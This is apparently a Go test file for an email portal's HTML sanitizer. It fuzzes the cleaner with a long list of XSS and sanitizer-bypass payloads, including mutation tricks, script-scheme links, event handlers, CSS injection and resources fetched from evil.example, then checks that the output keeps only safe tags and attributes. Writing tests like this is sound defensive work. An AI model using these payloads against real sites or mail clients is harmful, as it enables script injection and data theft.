package portal

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/sealpost/sealpost/internal/mail"
	"github.com/sealpost/sealpost/internal/private"
)

// attacks are known ways around cleaners: mutation, foreign content, CSS,
// schemes, clobbering, fetching.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" ONERROR="alert(1)">`, `<img/src=x/onerror=alert(1)>`, "<img src=x o\x00nerror=alert(1)>",
	`<a href="javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg onload=alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi><mglyph><style><img src=x onerror=alert(1)>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<style><style/><img src=x onerror=alert(1)>`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<title><p title="</title><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<plaintext><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`, `<style>@import url(https://evil.example/x.css);</style>`,
	`<p style="background:url(https://evil.example/x)">x</p>`, `<p style="background-color:url('https://evil.example/x')">x</p>`,
	`<p style="color:red;background-color:\75rl(https://evil.example/x)">x</p>`, `<p style="width:expression(alert(1))">x</p>`,
	`<p style="font-family:'x';background:url(//evil.example)">x</p>`, `<p style="color:rgb(1,2,3) url(x)">x</p>`, `<p style="-moz-binding:url(x)">x</p>`,
	`<p style="behavior:url(x.htc)">x</p>`, `<p style="position:fixed;top:0;left:0;width:100%">x</p>`, `<p style="color:red}</style><script>alert(1)</script>">x</p>`,
	`<p style="display:/*x*/none;color:image-set('https://evil.example/x' 1x)">x</p>`, `<p style="border:1px solid var(--x)">x</p>`,
	`<img src="https://evil.example/pixel.gif" width=1>`, `<img srcset="https://evil.example/x 2x">`, `<img src="//evil.example/x">`, `<img src="/leave">`,
	`<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>`, `<body background="https://evil.example/x" onload=alert(1)>x`,
	`<video poster="https://evil.example/x" src="https://evil.example/y" autoplay onplay=alert(1)>`, `<audio src=https://evil.example/x>`, `<input type=image src=https://evil.example/x>`,
	`<form action="https://evil.example/"><input name=code><button>Sign in</button></form>`, `<a id=x name=y ping="https://evil.example/">x</a>`,
	`<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)">x</a>`, `<a href="cid:x">x</a>`, `<img src="cid:svg">`, `<img src="cid:text">`,
	`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<!--[if mso]><script>alert(1)</script><![endif]-->`,
	`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<p title='"><script>alert(1)</script>'>x</p>`,
	`<img alt="` + "`><script>alert(1)</script>" + `">`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	strings.Repeat("<div>", 450) + `<img src=x onerror=alert(1)>`, "\ufeff<\u017fcript>alert(1)</script>", `<a href="https://ok.example/&quot;onmouseover=alert(1)">x</a>`,
}

var (
	allowedTags  = regexp.MustCompile(`^(html|head|body|a|abbr|b|big|blockquote|br|caption|center|cite|code|col|colgroup|d[dlt]|del|div|em|font|h[1-6r]|i|img|ins|kbd|li|[ou]l|p|pre|q|s|small|span|strike|strong|su[bp]|table|tbody|t[dhrt]|tfoot|thead|u)$`)
	allowedAttrs = regexp.MustCompile(`^(href|src|alt|title|dir|align|valign|lang|width|height|border|cellpadding|cellspacing|colspan|rowspan|span|start|bgcolor|color|face|size|style|target|rel)$`)
	badStyle     = regexp.MustCompile(`(?i)url|expression|import|binding|behavior|position|image-set|var\(|[\\@{}<>]|/\*`)
)

var inlineParts = []mail.Inline{
	{ContentID: private.NewString("svg"), ContentType: "image/png", Content: private.NewBytes([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`))},
	{ContentID: private.NewString("text"), ContentType: "image/gif", Content: private.NewBytes([]byte("<script>alert(1)</script>"))},
	{ContentID: private.NewString("Gif"), ContentType: "image/gif", Content: private.NewBytes([]byte("GIF89a and more"))},
}

// harmless reads the cleaned text as a browser would and looks at every node.
func harmless(t *testing.T, source string) {
	t.Helper()
	cleaned := clean(source, inlineParts)
	root, err := html.Parse(strings.NewReader("<!DOCTYPE html><html><body>" + cleaned + "</body></html>"))
	if err != nil {
		if strings.Count(cleaned, "<") > 500 {
			return // deeper than this parser goes
		}
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("%q leaves a comment: %q", source, cleaned)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || !allowedTags.MatchString(n.Data) {
			t.Errorf("%q leaves <%s>: %q", source, n.Data, cleaned)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case !allowedAttrs.MatchString(a.Key):
				t.Errorf("%q leaves %s: %q", source, a.Key, cleaned)
			case a.Key == "style" && badStyle.MatchString(a.Val):
				t.Errorf("%q leaves a style: %q", source, cleaned)
			case a.Key == "src" && !regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,`).MatchString(value):
				t.Errorf("%q leaves a source: %q", source, cleaned)
			case a.Key == "href" && !regexp.MustCompile(`^(https?|mailto|tel):`).MatchString(value):
				t.Errorf("%q leaves a link: %q", source, cleaned)
			case a.Key == "target" && a.Val != "_blank", a.Key == "rel" && a.Val != "noopener noreferrer":
				t.Errorf("%q chooses its window: %q", source, cleaned)
			}
		}
	}
	if again := clean(cleaned, nil); strings.Contains(strings.ToLower(again), "<script") {
		t.Errorf("%q changes when it is cleaned again", source)
	}
}

func TestAttacksAreHarmless(t *testing.T) {
	for _, a := range attacks {
		harmless(t, a)
		harmless(t, "<table><tr><td>"+a)
		harmless(t, "<p>before</p>"+a+"<p>after</p>")
	}
}

func FuzzClean(f *testing.F) {
	for _, a := range attacks {
		if len(a) < 1000 {
			f.Add(a)
		}
	}
	f.Fuzz(func(t *testing.T, source string) { harmless(t, source) })
}

func TestOrdinaryMailSurvives(t *testing.T) {
	for source, want := range map[string]string{
		`<table width="600" cellpadding="0" bgcolor="#eef"><tr><td align="center" style="padding:10px 20px;color:rgb(10, 20, 30);font-family:Arial, 'Helvetica Neue'">Hi</td></tr></table>`: `font-family: Arial, &#39;Helvetica Neue&#39;`,
		`<a href="mailto:x@example.org">mail</a>`:               `<a href="mailto:x@example.org" target="_blank" rel="noopener noreferrer">mail</a>`,
		`<a href="tel:+15551234">call</a>`:                      `href="tel:+15551234"`,
		`<img src="CID:gif" alt="Logo" width="20">`:             `<img src="data:image/gif;base64,`,
		`<h1>Größe &lt; 3</h1><ul><li>one</ul>`:                 `<h1>Größe &lt; 3</h1><ul><li>one</ul>`,
		`<p dir="rtl" lang="ar">مرحبا</p>`:                      `<p dir="rtl" lang="ar">مرحبا</p>`,
		`<img src="https://cdn.example/banner.png" alt="Sale">`: `<img alt="Sale">`,
	} {
		if got := clean(source, inlineParts); !strings.Contains(got, want) {
			t.Errorf("%s\n gives %s\n lacks %s", source, got, want)
		}
	}
}

func TestLinkedText(t *testing.T) {
	for text, want := range map[string]string{
		"see https://a.example/x.": "https://a.example/x", "(http://a.example)": "http://a.example", "<https://a.example/?q=1&r=2>": "https://a.example/?q=1&r=2",
		"javascript:alert(1)": "", "ftp://a.example": "", "https://": "",
	} {
		got, back := "", ""
		for _, p := range linked(text) {
			got, back = got+p.URL, back+p.Text
		}
		if got != want || back != text {
			t.Errorf("%q: %q, %q", text, got, back)
		}
	}
}

func TestSizes(t *testing.T) {
	for n, want := range map[int64]string{0: "0 bytes", 999: "999 bytes", 1000: "1 KB", 211_700: "212 KB", 999_499: "999 KB", 5_242_880: "5.2 MB"} {
		if got := readableSize(n); got != want {
			t.Errorf("%d: %s", n, got)
		}
	}
}
